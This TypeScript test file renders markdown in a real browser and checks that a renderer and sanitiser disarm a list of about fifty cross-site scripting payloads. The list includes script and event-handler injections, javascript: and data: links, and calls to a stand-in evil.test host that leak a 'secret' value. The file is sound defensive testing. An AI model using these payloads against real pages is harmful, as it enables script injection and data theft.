import { fileURLToPath } from "node:url";
import type { Browser, Page } from "playwright-core";
import { rolldown } from "rolldown";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launchBrowser } from "./chromium.ts";

/**
 * The page's markdown in a real browser: HTML parsers differ in exactly the corners that attacks use, and
 * a DOM made for tests does not run DOMPurify as browsers do.
 */

/** What people have tried on pages that show markdown. Each must come out as something that cannot run. */
const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">CLICK</math>',
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<form action=javascript:alert(1)><button>go</button></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<body onload=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<link rel=stylesheet href=//evil.test/x.css>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href=//evil.test/>",
  "<style>*{background:url(//evil.test)}</style>",
  "<p style='background:url(javascript:alert(1))'>x</p>",
  "<template><img src=x onerror=alert(1)></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<a href='java\nscript:alert(1)'>x</a>",
  "<a href='&#106;avascript:alert(1)'>x</a>",
  '<a href="\u0001javascript:alert(1)">x</a>',
  "<x onclick=alert(1)>x</x>",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](  javascript:alert(1))",
  "[click](java&#10;script:alert(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](vbscript:msgbox(1))",
  "[click](file:///etc/passwd)",
  "[click](blob:https://x/y)",
  "[ref]\n\n[ref]: javascript:alert(1)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  '![x" onerror="alert(1)](https://evil.test/p.png)',
  "![track](https://evil.test/pixel.png?secret=1)",
  '[x](https://ok.test "t\\" onmouseover=\\"alert(1)")',
  "<javascript:alert(1)>",
  "`<img src=x onerror=alert(1)>`",
  "```html\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "- [ ] <script>alert(1)</script>",
  "# <svg/onload=alert(1)>",
  "text <!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  "]]><script>alert(1)</script>",
];

const ALLOWED_ATTRIBUTES = ["align", "data-image", "href", "rel", "start", "target", "title"];
const ALLOWED_TAGS =
  "A B BLOCKQUOTE BR CODE DEL EM H1 H2 H3 H4 H5 H6 HR I KBD LI OL P PRE S STRONG SUB SUP TABLE TBODY TD TFOOT TH THEAD TR UL".split(
    " ",
  );

interface Outcome {
  html: string | undefined;
  text: string;
  /** Elements, attributes and addresses that have no business there. */
  dangers: string[];
}

let browser: Browser;
let page: Page;
const requests: string[] = [];

beforeAll(async () => {
  const entry = fileURLToPath(new URL("../../packages/web/src/view/transcript-markdown.ts", import.meta.url));
  const bundle = await rolldown({ input: entry, platform: "browser" });
  const { output } = await bundle.generate({ format: "iife", name: "markdown" });
  await bundle.close();
  browser = await launchBrowser();
  page = await browser.newPage();
  page.on("request", (request) => requests.push(request.url()));
  page.on("dialog", (dialog) => {
    requests.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.setContent("<main></main>");
  await page.addScriptTag({ content: output[0].code });
});

afterAll(async () => {
  await browser?.close();
});

/** Sets the text into the page as the page would, lets everything in it load and fire, and looks at it. */
function show(text: string, step: "renderMarkdown" | "sanitise"): Promise<Outcome> {
  return page.evaluate(
    async (asked) => {
      const scope = globalThis as unknown as {
        markdown: Record<typeof asked.step, (text: string) => string | undefined>;
      };
      const host = document.querySelector("main") as HTMLElement;
      const html = scope.markdown[asked.step](asked.text);
      host.innerHTML = html ?? "";
      await new Promise((resolve) => setTimeout(resolve, 5));
      const dangers: string[] = [];
      for (const element of host.querySelectorAll("*")) {
        if (!asked.tags.includes(element.tagName)) dangers.push(element.tagName);
        for (const name of element.getAttributeNames()) {
          if (!asked.attributes.includes(name)) dangers.push(`${element.tagName} ${name}`);
        }
        const href = element.getAttribute("href");
        if (href === null) continue;
        if (!/^(https?|mailto):/.test(href)) dangers.push(href);
        if (element.getAttribute("rel") !== "noopener noreferrer") dangers.push("no rel");
        if (element.getAttribute("target") !== "_blank") dangers.push("no target");
      }
      return { html, text: host.textContent ?? "", dangers };
    },
    { text, step, tags: ALLOWED_TAGS, attributes: ALLOWED_ATTRIBUTES },
  );
}

describe("markdown in the page", () => {
  it.each(HOSTILE)("disarms %s", async (text) => {
    const { html, dangers } = await show(text, "renderMarkdown");
    expect(html).toBeDefined();
    expect(dangers).toEqual([]);
  });

  it.each(HOSTILE)("the second wall alone disarms %s", async (text) => {
    const { html, dangers } = await show(text, "sanitise");
    expect(html).toBeDefined();
    expect(dangers).toEqual([]);
  });

  it("has run nothing and asked nothing of any host", () => {
    expect(requests).toEqual([]);
  });

  it("shows HTML as the text it is", async () => {
    const { text } = await show(
      "before <b onclick=x()>bold</b>\n\n<script>alert(1)</script>",
      "renderMarkdown",
    );
    expect(text).toContain("<b onclick=x()>bold</b>");
    expect(text).toContain("<script>alert(1)</script>");
  });

  it("loads no image: it becomes a link that names the host", async () => {
    const { html } = await show("![a chart](https://img.example/p.png)", "renderMarkdown");
    expect(html).not.toContain("<img");
    expect(html).toContain("a chart (image at img.example)");
    expect(html).toContain('href="https://img.example/p.png"');
  });

  it("formats what models write", async () => {
    const { html } = await show(
      "**SQLite** is _enough_:\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\na < b\n```",
      "renderMarkdown",
    );
    expect(html).toContain("<strong>SQLite</strong>");
    expect(html).toContain("<em>enough</em>");
    expect(html).toMatch(/<ol>\s*<li>one<\/li>/);
    expect(html).toContain("<td>1</td>");
    expect(html).toContain("<pre><code>a &lt; b</code></pre>");
  });

  it("takes a row of dashes for a line, and not for the sign of a heading", async () => {
    const { html } = await show(
      "Context is below.\n-----\nZürich has trams.\n=====\nAnswer.",
      "renderMarkdown",
    );
    expect(html).not.toMatch(/<h\d/);
    expect(html).toContain("Zürich has trams.");
  });

  it("gives up on what is too long, and bears what is nested deep", async () => {
    expect((await show("a".repeat(200_001), "renderMarkdown")).html).toBeUndefined();
    expect((await show(">".repeat(5000), "renderMarkdown")).dangers).toEqual([]);
  });
});
